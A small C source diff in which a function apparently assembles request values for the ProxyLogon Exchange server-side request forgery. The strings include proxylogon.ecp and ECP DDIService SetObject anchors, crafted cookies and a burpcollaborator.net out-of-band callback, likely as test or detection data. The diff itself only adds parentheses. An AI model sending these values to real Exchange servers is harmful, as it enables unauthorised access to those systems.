@@ -345,8 +345,8 @@ static void put_proxy(struct buf *out, struct arena *arena)
 {
     static const char *const anchors[] = {
         "Sid~S-1-5-21-1", "ServerInfo~a]@ex01.corp:444/ecp/proxylogon.ecp?#~1942062522",
-        "ServerInfo~localhost\\ecp/DDI/DDIService.svc/"
-        "SetObject?schema=ResetOABVirtualDirectory",
+        ("ServerInfo~localhost\\ecp/DDI/DDIService.svc/"
+         "SetObject?schema=ResetOABVirtualDirectory"),
         "-", "serverinfo~burpcollaborator.net?x#~1"};
     static const char *const cookies[] = {"-", "Server~ex01.corp~19420",
                                           "rJqNiZqNgYc=", "jJqNiZqNgYc", "Database~1"};
